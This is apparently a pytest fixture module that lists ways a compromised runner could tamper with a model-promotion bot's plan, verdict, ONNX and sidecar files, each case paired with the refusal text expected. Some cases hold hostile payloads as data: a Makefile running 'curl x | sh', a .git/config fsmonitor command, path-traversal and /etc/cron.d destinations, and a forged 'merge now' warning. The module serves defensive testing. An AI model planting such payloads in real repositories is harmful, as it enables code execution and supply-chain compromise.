"""Ways a compromised GPU runner (or a buggy export) can tamper with what the write job receives.

Each case edits a good input set in place (``root/in/loso``: loso files and the verdict,
``root/in/export``: ONNX files, sidecars, flip_plan.json) the way an attacker who controls
those files would: keeping every sha256 and pin consistent where that is possible, so the
only thing that can catch it is a check that re-derives the value. ``needles`` are strings
the refusal must contain: the file and the field.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
from bot_inputs import ENSEMBLE

from flipbot.jsonfile import sha256_bytes, sha256_file
from flipbot.verdict_file import VERDICT_NAMES

SEED0 = f"{ENSEMBLE}_seed0"
SEED1 = f"{ENSEMBLE}_seed1"
PLAN = "flip_plan.json"


@dataclass(frozen=True)
class Case:
    name: str
    tamper: Callable[[Path], None]
    needles: tuple[str, ...]


def load(path: Path) -> Any:
    return json.loads(path.read_text())


def save(path: Path, doc: Any) -> None:
    path.write_text(json.dumps(doc, indent=2, sort_keys=True) + "\n")


def verdict_path(root: Path) -> Path:
    return next(root / "in/loso" / n for n in VERDICT_NAMES if (root / "in/loso" / n).exists())


def rebind(root: Path) -> None:
    """Make the plan point at the verdict as it now is (what an attacker re-running export does)."""
    path = verdict_path(root)
    plan = load(root / "in/export" / PLAN)
    plan["verdict_file"] = path.name
    plan["verdict_sha256"] = sha256_file(path)
    plan["pins"] = load(path)["pins"]
    save(root / "in/export" / PLAN, plan)


def edit_verdict(change: Callable[[dict[str, Any]], None], rename: str | None = None):
    def tamper(root: Path) -> None:
        path = verdict_path(root)
        doc = load(path)
        change(doc)
        path.unlink()
        save(path.parent / (rename or path.name), doc)
        rebind(root)

    return tamper


def edit_plan(change: Callable[[dict[str, Any], Path], None]):
    def tamper(root: Path) -> None:
        doc = load(root / "in/export" / PLAN)
        change(doc, root / "in/export")
        save(root / "in/export" / PLAN, doc)

    return tamper


def refile(export: Path, name: str, data: bytes) -> None:
    """Replace an artefact and fix its sha256 in the plan (files and, for an ONNX, its row)."""
    old = sha256_file(export / name)
    (export / name).write_bytes(data)
    plan = load(export / PLAN)
    for entry in plan["files"]:
        if entry["artifact"] == name:
            entry["sha256"] = sha256_bytes(data)
    for row in plan["rows"]:
        if row["sha256"] == old:
            row["sha256"] = sha256_bytes(data)
    save(export / PLAN, plan)


def add_file(path: str, data: bytes):
    def change(plan: dict[str, Any], export: Path) -> None:
        (export / "evil").write_bytes(data)
        plan["files"].append({"path": path, "artifact": "evil", "sha256": sha256_bytes(data)})

    return edit_plan(change)


def edit_sidecar(change: Callable[[dict[str, Any]], None], name: str = f"{SEED0}.json"):
    def tamper(root: Path) -> None:
        export = root / "in/export"
        doc = load(export / name)
        change(doc)
        refile(export, name, (json.dumps(doc, indent=2, sort_keys=True) + "\n").encode())

    return tamper


def recipe_epochs_50(root: Path) -> None:
    """``trainer export --epochs 50`` on a 200-epoch verdict: plan and sidecars say 50."""
    export = root / "in/export"
    for sidecar in sorted(export.glob(f"{ENSEMBLE}_seed*.json")):
        doc = load(sidecar)
        doc["training"]["recipe"]["epochs"] = 50
        doc["training_recipe"]["epochs"] = 50  # the repository's summary of the same recipe
        doc["training"]["epochs_from"] = "--epochs"
        refile(export, sidecar.name, (json.dumps(doc, indent=2, sort_keys=True) + "\n").encode())
    plan = load(export / PLAN)
    plan["recipe"]["epochs"] = 50
    save(export / PLAN, plan)


def symlink_artefact(root: Path) -> None:
    target = root / "elsewhere.onnx"
    target.write_bytes((root / f"in/export/{SEED0}.onnx").read_bytes())
    (root / f"in/export/{SEED0}.onnx").unlink()
    os.symlink(target, root / f"in/export/{SEED0}.onnx")


def symlink_loso(root: Path) -> None:
    target = root / "elsewhere.json"
    target.write_bytes((root / "in/loso/loso_seed1.json").read_bytes())
    (root / "in/loso/loso_seed1.json").unlink()
    os.symlink(target, root / "in/loso/loso_seed1.json")


def swap_destinations(plan: dict[str, Any], export: Path) -> None:
    paths = {f["artifact"]: f["path"] for f in plan["files"]}
    for entry in plan["files"]:
        if entry["artifact"] == f"{SEED0}.onnx":
            entry["path"] = paths[f"{SEED1}.onnx"]
        elif entry["artifact"] == f"{SEED1}.onnx":
            entry["path"] = paths[f"{SEED0}.onnx"]


def repin_verdict(root: Path) -> None:
    """The attacker re-pins the verdict to the tampered loso files and rebinds the plan to it.

    The gate refuses to judge such files (it recomputes every fold's metrics and refuses
    identical predictions), so the verdict keeps the judgement of the untampered files, as a
    gate without those checks would have given: only the re-judging of the loso files can
    catch it."""
    path = verdict_path(root)
    doc = load(path)
    pins = doc["pins"]["loso_files"]
    for name in pins:
        pins[name] = sha256_file(path.parent / name)
    save(path, doc)
    rebind(root)


def hand_set_plcc(root: Path) -> None:
    """Seed 1's predictions get much worse, its stored PLCCs stay at 0.999."""
    path = root / "in/loso/loso_seed1.json"
    doc = load(path)
    for i, fold in enumerate(doc["folds"]):
        fold["y_pred"] = [
            v + (15.0 if (j + i) % 2 else -15.0) for j, v in enumerate(fold["y_pred"])
        ]
        fold["plcc"] = 0.999
    save(path, doc)
    repin_verdict(root)


def copy_seed_file(root: Path) -> None:
    """loso_seed0.json copied to loso_seed1.json with only the seed number changed."""
    doc = load(root / "in/loso/loso_seed0.json")
    doc["seed"] = 1
    save(root / "in/loso/loso_seed1.json", doc)
    repin_verdict(root)


def replace_onnx(root: Path, data: bytes) -> None:
    """Seed 0 ships other weights, with every sha256 (plan file, row, sidecar) made consistent."""
    export = root / "in/export"
    refile(export, f"{SEED0}.onnx", data)
    doc = load(export / f"{SEED0}.json")
    doc["sha256"] = sha256_bytes(data)
    refile(export, f"{SEED0}.json", (json.dumps(doc, indent=2, sort_keys=True) + "\n").encode())


def random_weights(root: Path) -> None:
    """Weights that pass every static check but predict nothing (sabotaged or untrained)."""
    import onnx
    from onnx import numpy_helper

    model = onnx.load_from_string((root / f"in/export/{SEED0}.onnx").read_bytes())
    for i, tensor in enumerate(model.graph.initializer):
        if tensor.name == "w":
            noise = np.random.default_rng(0).normal(0.0, 1.0, (20, 1)).astype(np.float32)
            model.graph.initializer[i].CopyFrom(numpy_helper.from_array(noise, "w"))
    replace_onnx(root, model.SerializeToString())


def disallowed_operator(root: Path) -> None:
    """An operator outside libvmaf's allowlist (Einsum in place of MatMul)."""
    import onnx

    model = onnx.load_from_string((root / f"in/export/{SEED0}.onnx").read_bytes())
    for node in model.graph.node:
        if node.op_type == "MatMul":
            node.op_type = "Einsum"
            node.attribute.append(onnx.helper.make_attribute("equation", "ij,jk->ik"))
    replace_onnx(root, model.SerializeToString())


def _set(key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    def change(doc: dict[str, Any]) -> None:
        doc[key] = value

    return change


def _rules_all_fail(doc: dict[str, Any]) -> None:
    for rule in doc["rules"]:
        rule["value"] = 0.5 if rule["op"] == ">=" else 0.9


def _loosen(doc: dict[str, Any]) -> None:
    doc["thresholds"]["mean_plcc"] = 0.5
    for rule in doc["rules"]:
        if rule["name"] == "mean_plcc":
            rule["threshold"] = 0.5


def _loso_edit(root: Path) -> None:
    path = root / "in/loso/loso_seed1.json"
    path.write_text(path.read_text().replace('"device": "cpu"', '"device": "cuda"'))


def _first_row(key: str, value: Any):
    def change(plan: dict[str, Any], export: Path) -> None:
        plan["rows"][0][key] = value

    return change


def _other_sha(plan: dict[str, Any], export: Path) -> None:
    plan["rows"][0]["sha256"] = plan["rows"][1]["sha256"]


def _ensemble_row(plan: dict[str, Any], export: Path) -> None:
    plan["rows"].append({"id": ENSEMBLE, "seed": None, "sha256": "a" * 64, "smoke": False})


def _no_recipe(plan: dict[str, Any], export: Path) -> None:
    del plan["recipe"]


def _lr(doc: dict[str, Any]) -> None:
    doc["training"]["recipe"]["lr"] = 0.01
    doc["training_recipe"]["lr"] = 0.01  # the repository's summary, as export writes it


def _gate_verdict(doc: dict[str, Any]) -> None:
    doc["gate"]["this_seed_loso_plcc"] = 0.9999  # a better number than the verdict's


def _nested_kind(doc: dict[str, Any]) -> None:
    doc["calibration"] = {"kind": "nr"}  # sorted before the top-level kind: libvmaf reads nr


def _no_input_names(doc: dict[str, Any]) -> None:
    doc.pop("input_names")


def _outside_pin(doc: dict[str, Any]) -> None:
    doc["pins"]["loso_files"]["../loso_seed9.json"] = "0" * 64


def add_drift(change: Callable[[dict[str, Any]], None], *, pin_other: bool = False):
    """A drift.json beside the plan, pinned by it (or by a sha256 of other bytes)."""
    from test_drift_report import drift_doc

    def tamper(root: Path) -> None:
        export = root / "in/export"
        doc = drift_doc()
        change(doc)
        save(export / "drift.json", doc)
        plan = load(export / PLAN)
        plan["drift_sha256"] = "0" * 64 if pin_other else sha256_file(export / "drift.json")
        save(export / PLAN, plan)

    return tamper


def add_calibration(change: Callable[[dict[str, Any]], None]):
    """A calibration.json beside the verdict (its interval constants reach the manifest)."""

    def tamper(root: Path) -> None:
        from gate.calibration import calibrate_run
        from gate.loso_set import load_loso_set

        loso = root / "in/loso"
        seeds = tuple(int(p.stem.removeprefix("loso_seed")) for p in loso.glob("loso_seed*.json"))
        doc = calibrate_run(load_loso_set(loso, seeds)).to_json()
        change(doc)
        save(loso / "calibration.json", doc)

    return tamper


def _drift_rows(doc: dict[str, Any]) -> None:
    doc["ensemble"]["by_source"]["bunny"]["mean_abs"] = "all good"


def _negative_half_width(doc: dict[str, Any]) -> None:
    level = next(k for k, v in doc["interval"].items() if v)
    doc["interval"][level]["half_width"][0] = -5.0


def _other_loso_pins(doc: dict[str, Any]) -> None:
    doc["loso_files"] = {name: "0" * 64 for name in doc["loso_files"]}


CASES = (
    # --- destinations: derived, never taken from the plan -------------------------------------
    Case(
        "plan writes the Makefile", add_file("Makefile", b"all:\n\tcurl x | sh\n"), (PLAN, "files[")
    ),
    Case(
        "plan writes a workflow",
        add_file(".github/workflows/x.yml", b"on: push\n"),
        (PLAN, "files["),
    ),
    Case(
        "plan writes .git/config",
        add_file(".git/config", b"[core]\n\tfsmonitor = touch /tmp/pwned\n"),
        (PLAN, "files["),
    ),
    Case(
        "plan entry replaces the registry",
        add_file("model/tiny/registry.json", b'{"models": []}\n'),
        (PLAN, "files["),
    ),
    Case(
        "destination climbs out with ..",
        add_file("model/tiny/../../Makefile", b"x"),
        (PLAN, "files["),
    ),
    Case("absolute destination", add_file("/etc/cron.d/flip", b"x"), (PLAN, "files[")),
    Case(
        "an extra file in the model folder",
        add_file("model/tiny/extra.onnx", b"x"),
        (PLAN, "files["),
    ),
    Case("swapped destinations", edit_plan(swap_destinations), (PLAN, "files[")),
    Case(
        "row renamed to nr_metric_v1", edit_plan(_first_row("id", "nr_metric_v1")), (PLAN, "rows")
    ),
    Case("row sha256 of another file", edit_plan(_other_sha), (PLAN, "sha256")),
    Case("row keeps smoke true", edit_plan(_first_row("smoke", True)), (PLAN, "rows[0]")),
    Case("string seed in a plan row", edit_plan(_first_row("seed", "0")), (PLAN, "rows[0]")),
    Case("ensemble row the registry lacks", edit_plan(_ensemble_row), (PLAN, ENSEMBLE)),
    Case(
        "plan for another ensemble id",
        edit_plan(lambda plan, export: plan.update(ensemble_id="nr_metric")),
        (PLAN, "ensemble_id"),
    ),
    Case("plan without its recipe", edit_plan(_no_recipe), (PLAN, "recipe")),
    # --- artefacts: regular files bound to their rows ------------------------------------------
    Case("symlinked ONNX", symlink_artefact, (f"{SEED0}.onnx", "symlink")),
    Case(
        "ONNX changed after export",
        lambda root: (root / f"in/export/{SEED0}.onnx").write_bytes(b"\x08\x07 other weights"),
        (f"{SEED0}.onnx", "sha256"),
    ),
    Case("sidecar of another seed", edit_sidecar(_set("seed", 1)), (f"{SEED0}.json", "'seed'")),
    Case(
        "sidecar sha256 of nothing",
        edit_sidecar(_set("sha256", "0" * 64)),
        (f"{SEED0}.json", "'sha256'"),
    ),
    Case(
        "models fitted for 50 epochs, verdict judged 200",
        recipe_epochs_50,
        (PLAN, "recipe", "epochs"),
    ),
    Case(
        "one sidecar fitted with another lr",
        edit_sidecar(_lr),
        (f"{SEED0}.json", "training.recipe"),
    ),
    Case(
        "sidecar claims a better LOSO PLCC than the verdict",
        edit_sidecar(_gate_verdict),
        (f"{SEED0}.json", "gate.this_seed_loso_plcc"),
    ),
    Case(
        "sidecar hides a kind for libvmaf's scan",
        edit_sidecar(_nested_kind),
        (f"{SEED0}.json", "calibration.kind", "libvmaf"),
    ),
    Case(
        "sidecar without input_names (the model audit's key)",
        edit_sidecar(_no_input_names),
        (f"{SEED0}.json", "'input_names'"),
    ),
    # --- the verdict: re-judged by the gate on the loso files it pins --------------------------
    Case("decision MAYBE", edit_verdict(_set("decision", "MAYBE")), ("PROMOTE.json", "'decision'")),
    Case(
        "a PROMOTE stored as HOLD.json",
        edit_verdict(lambda d: None, "HOLD.json"),
        ("HOLD.json", "file name"),
    ),
    Case(
        "flip names a seed never judged",
        edit_verdict(_set("flip", [0, 1, 2, 4])),
        ("PROMOTE.json", "'flip'"),
    ),
    Case(
        "string seeds in the flip list",
        edit_verdict(_set("flip", ["0", 1, 2])),
        ("PROMOTE.json", "'flip'"),
    ),
    Case(
        "rule values that fail every rule",
        edit_verdict(_rules_all_fail),
        ("PROMOTE.json", "'rules[0].value'"),
    ),
    Case(
        "loosened threshold without the override",
        edit_verdict(_loosen),
        ("PROMOTE.json", "thresholds"),
    ),
    Case("refusal forged", edit_verdict(_set("refused", True)), ("PROMOTE.json", "'refused'")),
    Case(
        "ensemble flip withheld",
        edit_verdict(_set("ensemble_flip", False)),
        ("PROMOTE.json", "ensemble_flip"),
    ),
    Case(
        "loso file outside the folder pinned",
        edit_verdict(_outside_pin),
        ("PROMOTE.json", "pins: field 'loso_files'"),
    ),
    Case(
        "pinned loso file missing",
        lambda root: (root / "in/loso/loso_seed1.json").unlink(),
        ("loso_seed1.json", "missing"),
    ),
    Case("pinned loso file edited", _loso_edit, ("loso_seed1.json", "pins.loso_files")),
    Case("pinned loso file is a symlink", symlink_loso, ("loso_seed1.json", "symlink")),
    # --- a consistent attacker who re-pins the verdict to tampered loso files -----------------
    Case("fold plcc hand-set to 0.999", hand_set_plcc, ("loso_seed1.json", "field 'plcc'")),
    Case(
        "seed file copied under another number",
        copy_seed_file,
        ("loso_seed1.json", "y_pred is identical to", "loso_seed0.json"),
    ),
    # --- the models: contract and behaviour (flipbot.onnx_contract / onnx_behaviour) --------
    Case("random weights", random_weights, (f"{SEED0}.onnx", "in-sample PLCC", "per-seed minimum")),
    Case(
        "operator off the allowlist",
        disallowed_operator,
        (f"{SEED0}.onnx", "outside libvmaf's allowlist", "Einsum"),
    ),
    # --- informational files that still reach the PR body or the commit -----------------------
    Case(
        "drift.json other than the plan pins",
        add_drift(lambda doc: None, pin_other=True),
        ("drift.json", "drift_sha256"),
    ),
    Case(
        "drift.json malformed but re-pinned",
        add_drift(_drift_rows),
        ("drift.json", "malformed drift report"),
    ),
    Case(
        "calibration half-width negative (reaches the manifest)",
        add_calibration(_negative_half_width),
        ("calibration.json", "field 'interval'", "half_width"),
    ),
    Case(
        "calibration for other loso files",
        add_calibration(_other_loso_pins),
        ("calibration.json", "pins other loso files"),
    ),
    Case(
        "gate warning forged into the verdict",
        edit_verdict(lambda doc: doc.__setitem__("warnings", ["all checks passed, merge now"])),
        ("PROMOTE.json", "'warnings'"),
    ),
)


def params() -> list[Any]:
    """CASES as pytest params, named for what they tamper with."""
    import pytest

    return [pytest.param(case, id=case.name) for case in CASES]
